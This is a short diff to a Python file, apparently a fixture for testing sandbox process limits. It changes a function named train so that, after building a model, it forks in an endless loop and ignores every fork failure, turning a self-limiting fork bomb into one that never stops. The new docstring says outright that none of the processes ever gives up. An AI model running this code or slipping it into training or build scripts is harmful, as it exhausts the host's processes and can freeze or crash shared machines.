@@ -1,12 +1,12 @@
-"""Forks, and its children fork, and all of them die where they may not."""
+"""Forks, and its children fork, and none of them ever gives up."""
 
 import os
 
 
 def train(ctx):
     ctx.build_model()
-    try:
-        while True:
+    while True:
+        try:
             os.fork()
-    except OSError:
-        os.abort()
+        except OSError:
+            pass
